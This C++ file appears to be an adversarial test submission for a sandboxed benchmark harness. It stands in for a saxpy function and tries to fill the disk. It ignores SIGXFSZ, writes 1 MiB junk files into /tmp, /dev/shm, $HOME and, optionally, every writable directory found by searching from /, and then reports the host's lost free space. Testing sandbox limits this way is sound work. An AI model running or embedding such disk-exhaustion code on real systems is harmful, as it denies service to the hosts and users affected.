// Attack (disk_fill): saxpy() ignores SIGXFSZ and writes files of 1 MiB chunks
// (wb-adv-fill-PID-N) into /tmp, /var/tmp, /dev/shm, the current directory and $HOME, a new
// file whenever a write fails, until a new file cannot take a single chunk. With
// WB_ADV_FILL_ANYWHERE=1 it first fills every other directory it can write to (it searches /,
// three levels deep, e.g. /run/lock). Safety: it stops after 1 GiB in all.
// Must happen: the file size limit and the private, size-limited /tmp contain it; the host's
// disk does not fill up; the check fails.
#include "saxpy.h"

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

#include <algorithm>
#include <climits>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

namespace {

constexpr long long kChunk = 1 << 20, kSafetyCap = 1LL << 30;

void writable_dirs(const std::string& dir, int depth, std::vector<std::string>& out) {
  if (depth > 3 || dir == "/proc" || dir == "/sys") return;
  if (access(dir.c_str(), W_OK | X_OK) == 0) out.push_back(dir);
  DIR* d = opendir(dir.c_str());
  if (!d) return;
  while (dirent* e = readdir(d)) {
    const std::string name = e->d_name;
    if (name == "." || name == ".." || e->d_type != DT_DIR) continue;
    writable_dirs(dir == "/" ? "/" + name : dir + "/" + name, depth + 1, out);
  }
  closedir(d);
}

// Free bytes of the root file system, the host's disk (seen from inside the sandbox too).
long long free_on_root() {
  struct statvfs st {};
  return statvfs("/", &st) == 0 ? static_cast<long long>(st.f_bavail) * static_cast<long long>(st.f_frsize) : 0;
}

}  // namespace

cudaError_t saxpy(int, float, const float*, float*) {
  signal(SIGXFSZ, SIG_IGN);
  std::vector<std::string> usual = {"/tmp", "/var/tmp", "/dev/shm", "."}, found, dirs;
  if (const char* home = std::getenv("HOME")) usual.push_back(home);
  if (const char* anywhere = std::getenv("WB_ADV_FILL_ANYWHERE"); anywhere && *anywhere == '1') writable_dirs("/", 0, found);
  found.insert(found.end(), usual.begin(), usual.end());  // the others first
  for (const std::string& dir : found) {  // each folder once, even through a symbolic link
    char real[PATH_MAX];
    if (realpath(dir.c_str(), real) && std::find(dirs.begin(), dirs.end(), real) == dirs.end()) dirs.push_back(real);
  }
  std::stable_partition(dirs.begin(), dirs.end(), [&](const std::string& dir) {
    return std::none_of(usual.begin(), usual.end(), [&](const std::string& u) {
      char real[PATH_MAX];
      return realpath(u.c_str(), real) && dir == real;
    });
  });
  static std::vector<char> chunk(kChunk, 'x');
  long long total = 0;
  const long long free_before = free_on_root();
  for (const std::string& dir : dirs) {
    long long in_dir = 0;
    for (int file = 0; total < kSafetyCap; ++file) {
      const std::string path = dir + "/wb-adv-fill-" + std::to_string(getpid()) + "-" + std::to_string(file);
      const int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
      if (fd < 0) break;
      long long in_file = 0;
      while (total < kSafetyCap && write(fd, chunk.data(), chunk.size()) == static_cast<ssize_t>(chunk.size())) {
        in_file += kChunk;
        total += kChunk;
      }
      close(fd);
      in_dir += in_file;
      if (in_file == 0) break;  // not even one chunk fits: this directory is full
    }
    if (in_dir > 0) std::fprintf(stderr, "ADV: wrote %lld MiB into %s\n", in_dir >> 20, dir.c_str());
  }
  std::fprintf(stderr, "ADV: wrote %lld MiB in all; the host's / lost %lld MiB of free space\n", total >> 20,
               (free_before - free_on_root()) >> 20);
  return cudaSuccess;
}
cudaError_t saxpy_grid_stride(int, float, const float*, float*, int, int) { return cudaSuccess; }
cudaError_t saxpy_host(int, float, const float*, float*) { return cudaSuccess; }
